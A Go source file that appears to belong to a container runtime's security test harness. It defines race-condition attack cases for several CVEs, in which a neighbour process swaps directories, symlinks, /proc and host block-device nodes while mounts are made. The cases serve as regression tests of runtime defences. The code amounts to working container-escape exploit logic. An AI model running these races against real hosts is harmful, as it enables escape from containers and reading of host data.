package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	specs "github.com/opencontainers/runtime-spec/specs-go"
	"github.com/rtcontainers/rt/internal/defence"
	"golang.org/x/sys/unix"
)

// Races by renames: somebody exchanges directories and symlinks on the way of a
// mount while it is made.

var raceAttacks = []attack{
	{
		name:     "volume-race-directory",
		about:    "a neighbour exchanges a directory of a shared volume with a symlink to the host while a mount is made there",
		kinds:    []string{"CVE-2021-30465", "CVE-2024-45310"},
		defences: []defence.Name{defence.InRoot},
		race:     true,
		patience: 5 * minute,
		mount: func(t *try) string {
			v := t.raceInVolume()
			v.spec.Mounts = append(v.spec.Mounts, specs.Mount{Destination: "/volume/a/made", Type: "tmpfs", Source: "tmpfs"})
			return v.race()
		},
	},
	{
		name:     "volume-race-file",
		about:    "the same where a file is made as a mount point",
		kinds:    []string{"CVE-2021-30465", "CVE-2024-45310"},
		defences: []defence.Name{defence.InRoot},
		race:     true,
		patience: 5 * minute,
		mount: func(t *try) string {
			v := t.raceInVolume()
			v.bind(t.write(t.host("file"), ""), "/volume/a/made")
			return v.race()
		},
	},
	{
		name:     "root-race",
		about:    "a neighbour that shares the root file system exchanges directories in it while mounts, devices and masks are made",
		kinds:    []string{"CVE-2021-30465", "CVE-2019-19921", "CVE-2023-27561"},
		defences: []defence.Name{defence.InRoot},
		race:     true,
		patience: 5 * minute,
		mount: func(t *try) string {
			v := t.script("true")
			v.mkdir(v.root("a"))
			t.link(t.mkdir(t.host("outside")), v.root("b"))
			t.neighbour(v.root(), "swap", "/volume/a", "/volume/b")
			v.spec.Mounts = append(v.spec.Mounts, specs.Mount{Destination: "/a/mount", Type: "tmpfs", Source: "tmpfs"})
			v.bind(t.write(t.host("file"), ""), "/a/file")
			v.spec.Linux.Devices = []specs.LinuxDevice{{Path: "/a/device", Type: "c", Major: 1, Minor: 3}}
			v.spec.Linux.MaskedPaths = append(v.spec.Linux.MaskedPaths, "/a")
			return v.race()
		},
	},
	{
		name:     "proc-link-race",
		about:    "a neighbour that shares the root file system exchanges /proc with a symlink to another directory",
		kinds:    []string{"CVE-2019-19921", "CVE-2023-27561"},
		defences: []defence.Name{defence.ExactProc},
		race:     true,
		patience: 5 * minute,
		mount: func(t *try) string {
			v := t.script("if [ -e /other/self/status ]; then echo " + gained + "; fi")
			v.mkdir(v.root("other"))
			t.link("/other", v.root("link"))
			t.neighbour(v.root(), "swap", "/volume/proc", "/volume/link")
			for i := range t.times(100) {
				if tell(v.run(), gained, gained) != "" {
					return fmt.Sprintf("proc was mounted through the symlink in try %d", i+1)
				}
				v.remove()
			}
			return ""
		},
	},
	{
		name:     "copyup-swap",
		about:    "a neighbour exchanges files of a shared root file system with device nodes while they are copied to a tmpfs",
		kinds:    []string{"13.4", "CVE-2025-24965"},
		defences: []defence.Name{defence.KnownFiles},
		race:     true,
		patience: 5 * minute,
		mount:    copyUpSwap,
	},
}

// raceInVolume makes a victim with a volume in which a neighbour exchanges a
// directory with a symlink to the host.
func (t *try) raceInVolume() *bundle {
	volume := t.mkdir(t.host("volume"))
	t.mkdir(filepath.Join(volume, "a"))
	t.link(t.mkdir(t.host("outside")), filepath.Join(volume, "b"))
	t.neighbour(volume, "swap", "/volume/a", "/volume/b")
	v := t.script("true")
	v.bind(volume, "/volume")
	return v
}

// race runs a container many times, and looks for what was made outside of it.
func (b *bundle) race() string {
	failed, why := 0, ""
	n := b.times(100)
	for i := range n {
		r := b.run()
		entries, err := os.ReadDir(b.host("outside"))
		b.must(err)
		if len(entries) > 0 {
			return fmt.Sprintf("%s was made on the host in try %d", entries[0].Name(), i+1)
		}
		if r.code != 0 {
			failed++
			why = r.stderr
			b.remove()
		}
	}
	b.logf("%d of %d failed: %s", failed, n, shorten(why))
	if failed > 0 && b.ours() {
		return fmt.Sprintf("%d of %d containers could not be made: %s", failed, n, shorten(why))
	}
	return ""
}

// copyUpSwap lets a neighbour exchange files with nodes of a block device of the
// host.
func copyUpSwap(t *try) string {
	const files = 40
	device, done := t.loopDevice()
	defer done()
	v := t.bundle("sh", "-c", "cat /data/*")
	v.mkdir(v.root("data"))
	v.mkdir(v.root("nodes"))
	for i := range files {
		name := fmt.Sprint(i)
		t.write(v.root("data", name), "")
		t.must(unix.Mknod(v.root("nodes", name), unix.S_IFBLK|0o600, int(device)))
	}
	v.spec.Mounts = append(v.spec.Mounts, specs.Mount{Destination: "/data", Type: "tmpfs", Source: "tmpfs", Options: []string{"tmpcopyup"}})
	t.neighbour(v.root(), "swap-many", "/volume/data", "/volume/nodes", fmt.Sprint(files))
	for i := range t.times(50) {
		if tell(v.run(), secret, secret) != "" {
			return fmt.Sprintf("a device of the host was copied in try %d", i+1)
		}
		v.remove()
	}
	return ""
}

// swapMany exchanges the files of two directories for ever.
func swapMany(args []string) error {
	var n int
	if _, err := fmt.Sscan(args[2], &n); err != nil {
		return err
	}
	for {
		for i := range n {
			name := fmt.Sprint(i)
			_ = unix.Renameat2(unix.AT_FDCWD, args[0]+"/"+name, unix.AT_FDCWD, args[1]+"/"+name, unix.RENAME_EXCHANGE)
		}
	}
}

// loopDevice makes a block device of the host whose content is the secret.
func (t *try) loopDevice() (device uint64, done func()) {
	control, err := os.OpenFile("/dev/loop-control", os.O_RDWR, 0)
	t.must(err)
	defer control.Close()
	content, err := os.OpenFile(t.write(t.host("disk"), secret+strings.Repeat("\n", 1<<16-len(secret))), os.O_RDWR, 0)
	t.must(err)
	defer content.Close()
	for {
		n, err := unix.IoctlRetInt(int(control.Fd()), unix.LOOP_CTL_GET_FREE)
		t.must(err)
		loop, err := os.OpenFile(fmt.Sprintf("/dev/loop%d", n), os.O_RDWR, 0)
		t.must(err)
		config := unix.LoopConfig{Fd: uint32(content.Fd())}
		config.Info.Flags = unix.LO_FLAGS_AUTOCLEAR
		err = unix.IoctlLoopConfigure(int(loop.Fd()), &config)
		if err == unix.EBUSY { // somebody else has it
			loop.Close()
			continue
		}
		t.must(err)
		return unix.Mkdev(7, uint32(n)), func() { loop.Close() }
	}
}
